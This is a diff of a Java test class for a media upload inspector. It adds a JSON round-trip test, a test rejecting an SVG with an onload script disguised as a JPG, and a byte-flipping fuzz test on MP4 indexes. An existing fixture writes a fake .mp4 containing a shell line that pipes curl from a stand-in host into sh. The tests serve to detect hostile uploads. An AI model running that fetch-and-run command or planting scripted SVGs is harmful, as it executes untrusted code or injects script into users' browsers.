@@ -65,6 +65,17 @@ class MediaInspectorTest {
 	}
 
 	@Test
+	void inspectionSurvivesAJsonRoundTripAsTheSubmissionStoresIt() {
+		Inspection inspection = inspector.inspect(TestMedia.mp4(1280, 720, 40, 5), MICRO_VIDEO);
+		tools.jackson.databind.json.JsonMapper json = tools.jackson.databind.json.JsonMapper.builder().build();
+
+		Inspection read = json.readValue(json.writeValueAsString(inspection), Inspection.class);
+
+		assertThat(read).isEqualTo(inspection);
+		assertThat(read.blocksSubmission()).isTrue();
+	}
+
+	@Test
 	void scriptRenamedMp4IsRefusedAsAScript() {
 		Path script = HostileFiles.write(directory, "作品.mp4",
 				"#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.UTF_8));
@@ -264,6 +275,15 @@ class MediaInspectorTest {
 	}
 
 	@Test
+	void svgWithAnEventHandlerCountsAsScripted() {
+		Path svg = HostileFiles.write(directory, "score.jpg",
+				"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".getBytes(StandardCharsets.UTF_8));
+
+		assertThat(verdictAndMessage(inspector.inspect(svg, SCORE), "format"))
+			.isEqualTo(tuple(Verdict.FAILED, "文件实际为SVG矢量图（内含脚本），本项目只接受JPG图片或PNG图片"));
+	}
+
+	@Test
 	void realPptxPassesWithItsArchiveChecked() {
 		Inspection inspection = inspector.inspect(HostileFiles.pptx(directory, "intro.zip"), PRESENTATION);
 
@@ -349,6 +369,25 @@ class MediaInspectorTest {
 
 		assertThat(verdictAndMessage(inspector.inspect(big, small), "file.size"))
 			.isEqualTo(tuple(Verdict.FAILED, "文件大小 1.5MB，超过本项目上限 1MB"));
+	}
+
+	@Test
+	void damagedIndexNeverThrowsAndAlwaysExplains() throws Exception {
+		byte[] original = Files.readAllBytes(TestMedia.mp4(160, 90, 2, 5));
+		int moov = new String(original, StandardCharsets.ISO_8859_1).lastIndexOf("moov") - 4;
+		Random random = new Random(7);
+		for (int round = 0; round < 300; round++) {
+			byte[] damaged = original.clone();
+			for (int flips = 1 + random.nextInt(8); flips > 0; flips--) {
+				damaged[moov + random.nextInt(damaged.length - moov)] = (byte) random.nextInt(256);
+			}
+			Path file = HostileFiles.write(directory, "damaged.mp4", damaged);
+
+			Inspection inspection = inspector.inspect(file, MICRO_VIDEO);
+
+			assertThat(inspection.findings()).as("round %d", round).isNotEmpty();
+			assertThat(inspection.findings()).allSatisfy(finding -> assertThat(finding.message()).isNotBlank());
+		}
 	}
 
 	static org.assertj.core.groups.Tuple verdictAndMessage(Inspection inspection, String rule) {
